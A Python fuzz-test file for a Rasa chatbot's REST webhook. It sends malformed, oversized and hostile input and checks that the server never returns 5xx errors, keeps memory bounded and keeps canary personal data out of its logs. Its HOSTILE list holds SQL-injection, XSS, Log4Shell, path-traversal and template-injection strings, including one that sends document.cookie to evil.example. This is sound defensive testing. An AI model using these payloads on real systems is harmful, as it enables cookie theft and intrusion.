"""Random and hostile input through the REST channel: 0 server errors, memory bounded.

250 requests in ``make test``, 10,000 in ``make faults``: unicode of every kind, control
characters and lone surrogates, messages around and far over the 2,000-character limit,
100 KB and 1 MB bodies, JSON garbage and wrong types, SQL/HTML/template payloads, Rasa
slash commands. Also: 1 MB bodies sent in parallel do not stall a normal conversation.
"""

from __future__ import annotations

import json
import random
import statistics
import threading
import time
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

import requests
from harness import FULL, Stack, record, rss_mb

CANARY_NAME = "Quenby Fuzzwhistle"
CANARY_PHONE = "646-555-0143"

HOSTILE = [
    "'; DROP TABLE events; --",
    "1 OR 1=1",
    '" UNION SELECT sender_id, data FROM events --',
    "<script>alert(1)</script>",
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    "{{7*7}}{% for x in range(10**9) %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%s%s%s%n%n",
    "/restart",
    "/session_start",
    "/crisis",
    '/inform{"payer": "x", "bad": ',
    '/ready_to_start{"payer":"' + "x" * 500 + '"}',
    "/nlu_fallback",
    "/" + "a" * 300,
    "",
    "   ",
    "\u202e\u2066evil\u2069",
    "\ufeff\u200b\u200d\u2060",
    "🧨" * 400,
    "Z̸̡̛̝̜̙͎̻̞̺̫͖͚̈́͐̂̃̃̄̅͒̽͛͘ą̷̢̛̖̦̱̳̳̿̊͆̀̊͋̽̈́͝ḽ̸̢̛̛̖̻͚̙̟̗̫̃̈́̌̍̋͊̈́͝g̶" * 10,
]

RANGES = [
    (0x20, 0x7E),
    (0xA0, 0x24F),
    (0x370, 0x3FF),
    (0x590, 0x6FF),
    (0x900, 0x97F),
    (0x3040, 0x30FF),
    (0x4E00, 0x9FFF),
    (0xAC00, 0xD7A3),
    (0x1F300, 0x1FAFF),
    (0x0300, 0x036F),
    (0x2000, 0x206F),
    (0xE000, 0xF8FF),
    (0x10000, 0x1007F),
]


def _text(rng: random.Random, length: int) -> str:
    out = []
    for _ in range(length):
        low, high = rng.choice(RANGES)
        out.append(chr(rng.randint(low, high)))
    return "".join(out)


def _case(rng: random.Random, senders: list[str]) -> tuple[str, bytes]:
    """(kind, request body) for one fuzz request."""
    sender = rng.choice(senders)
    kind = rng.choice(
        [
            "unicode",
            "control",
            "surrogate",
            "near_limit",
            "over_limit",
            "body_100k",
            "garbage",
            "wrong_types",
            "hostile",
            "deep_json",
            "bad_utf8",
            "normal",
        ]
    )
    if kind == "unicode":
        message = _text(rng, rng.randint(1, 300))
    elif kind == "control":
        message = (
            "".join(
                chr(rng.randint(0, 0x1F)) if rng.random() < 0.5 else "a"
                for _ in range(rng.randint(1, 200))
            )
            + "\x7f\u2028\u0085"
        )
    elif kind == "surrogate":
        body = '{"sender": ' + json.dumps(sender) + ', "message": "ab\\ud800cd\\udfff\\udbff"}'
        return kind, body.encode()
    elif kind == "near_limit":
        message = "a" * rng.randint(1990, 2000)
    elif kind == "over_limit":
        message = _text(rng, rng.randint(2001, 5000))
    elif kind == "body_100k":
        message = "x" * 100_000
    elif kind == "garbage":
        return kind, rng.choice(
            [
                b"",
                b"{",
                b"null",
                b"[]",
                b'"string"',
                b"123",
                b"{'single': 'quotes'}",
                b'{"sender": "a", "message": "b"',
                bytes(rng.getrandbits(8) for _ in range(200)),
                b'{"sender": "a", "message": "b"}{"sender": "c"}',
                b"\x00" * 50,
            ]
        )
    elif kind == "wrong_types":
        bad_sender = rng.choice([None, [], {}, "", " ", "x" * 300, "a\x00b", "a\nb", True, 1.5])
        bad_message = rng.choice([None, [], {}, 42, True, {"text": "hi"}, ["hi"]])
        body = rng.choice(
            [
                {"sender": bad_sender, "message": "hi"},
                {"sender": sender, "message": bad_message},
                {"message": "hi"},
                {"sender": sender},
                {
                    "sender": sender,
                    "message": "hi",
                    "metadata": {"x": "y" * 1000},
                    "input_channel": "<script>",
                },
            ]
        )
        return kind, json.dumps(body).encode()
    elif kind == "hostile":
        message = rng.choice(HOSTILE)
    elif kind == "deep_json":
        depth = rng.randint(1000, 8000)
        return kind, b'{"sender": "a", "message": ' + b"[" * depth + b"]" * depth + b"}"
    elif kind == "bad_utf8":
        return kind, b'{"sender": "a", "message": "\xff\xfe\xc3\x28 hi"}'
    else:
        message = rng.choice(
            [
                "hi",
                "I work nights",
                "how much does it cost",
                "thanks",
                f"my name is {CANARY_NAME}, call me at {CANARY_PHONE}",
            ]
        )
    return kind, json.dumps({"sender": sender, "message": message}).encode()


def test_hostile_input(healthy: Stack) -> None:
    """No 5xx, no dropped connection, every 200 a JSON list; Rasa's memory stays bounded."""
    stack = healthy
    assert stack.rasa is not None
    total = 10_000 if FULL else 250
    rng = random.Random(20261127)
    senders = [f"fuzz-{uuid.uuid4().hex[:10]}" for _ in range(300 if FULL else 40)]
    cases = [_case(rng, senders) for _ in range(total)]
    statuses: Counter[int] = Counter()
    by_kind: dict[str, Counter[int]] = {}
    bad_answers = 0
    seconds: list[float] = []
    lock = threading.Lock()
    rss = [rss_mb(stack.rasa.pid)]
    done = 0

    def send(case: tuple[str, bytes]) -> None:
        nonlocal bad_answers, done
        kind, body = case
        status, content, took = stack.post_raw(body, timeout=60)
        ok = True
        if status == 200:
            try:
                ok = isinstance(json.loads(content), list)
            except ValueError:
                ok = False
        with lock:
            statuses[status] += 1
            by_kind.setdefault(kind, Counter())[status] += 1
            bad_answers += not ok
            seconds.append(took)
            done += 1
            if done % 500 == 0:
                rss.append(rss_mb(stack.rasa.pid))

    started = time.monotonic()
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(send, cases))
    elapsed = time.monotonic() - started
    rss.append(rss_mb(stack.rasa.pid))
    healthy_after = stack.say(f"fuzz-after-{uuid.uuid4().hex[:8]}", "hi")
    seconds.sort()
    figures = {
        "requests": total,
        "elapsed_seconds": round(elapsed, 1),
        "status_counts": {str(k): v for k, v in sorted(statuses.items())},
        "status_by_kind": {
            k: {str(s): n for s, n in sorted(c.items())} for k, c in sorted(by_kind.items())
        },
        "server_errors_5xx": sum(n for s, n in statuses.items() if s >= 500),
        "connection_failures": statuses.get(0, 0),
        "non_list_200_answers": bad_answers,
        "reply_seconds_p50": round(statistics.median(seconds), 3),
        "reply_seconds_max": round(seconds[-1], 2),
        "rasa_rss_mb_start": round(rss[0], 1),
        "rasa_rss_mb_max": round(max(rss), 1),
        "rasa_rss_mb_end": round(rss[-1], 1),
        "rasa_rss_mb_growth": round(max(rss) - rss[0], 1),
        "rasa_rss_mb_every_500_requests": [round(x) for x in rss],
    }
    record("fuzz", figures)
    assert figures["server_errors_5xx"] == 0, figures
    assert figures["connection_failures"] == 0, figures
    assert figures["non_list_200_answers"] == 0, figures
    assert healthy_after.status == 200 and healthy_after.texts
    assert figures["rasa_rss_mb_growth"] < (600 if FULL else 300), figures
    for log in (stack.tmp / "rasa.log", stack.tmp / "actions.log"):
        text = log.read_text(errors="replace")
        assert CANARY_NAME not in text and CANARY_PHONE not in text, f"message text in {log.name}"


def test_megabyte_bodies_do_not_stall_others(healthy: Stack) -> None:
    """1 MB bodies (with Content-Length, and chunked) are refused at 16 KB while a normal
    conversation keeps its usual reply time."""
    stack = healthy
    url = f"{stack.url}/webhooks/rest/webhook"
    megabyte = json.dumps({"sender": "big", "message": "x" * 1_000_000}).encode()
    statuses: Counter[int] = Counter()
    counting = threading.Lock()
    stop = threading.Event()

    def post(data: object) -> None:
        try:
            status = requests.post(url, data=data, timeout=30).status_code
        except requests.RequestException:
            status = 0  # the server may close the connection right after its 413
        with counting:
            statuses[status] += 1

    def flood() -> None:
        while not stop.is_set():
            post(megabyte)  # with Content-Length
            post(iter([megabyte[i : i + 65536] for i in range(0, len(megabyte), 65536)]))  # chunked

    sender = f"beside-big-{uuid.uuid4().hex[:8]}"
    quiet = [stack.say(sender, t).seconds for t in ("hi", "how much does it cost")]
    flooders = [threading.Thread(target=flood) for _ in range(4)]
    for t in flooders:
        t.start()
    try:
        busy = [
            stack.say(sender, t).seconds
            for t in ("what programs do you have", "is it confidential", "thanks", "bye")
        ]
    finally:
        stop.set()
        for t in flooders:
            t.join(60)
    figures = {
        "big_requests": sum(statuses.values()),
        "big_status_counts": {str(k): v for k, v in sorted(statuses.items())},
        "reply_seconds_quiet_max": round(max(quiet), 3),
        "reply_seconds_during_flood_max": round(max(busy), 3),
    }
    record("megabyte_bodies", figures)
    assert statuses.get(200, 0) == 0 and all(s in (413, 0) for s in statuses)
    assert statuses.get(413, 0) > 0
    assert max(busy) < 3, figures
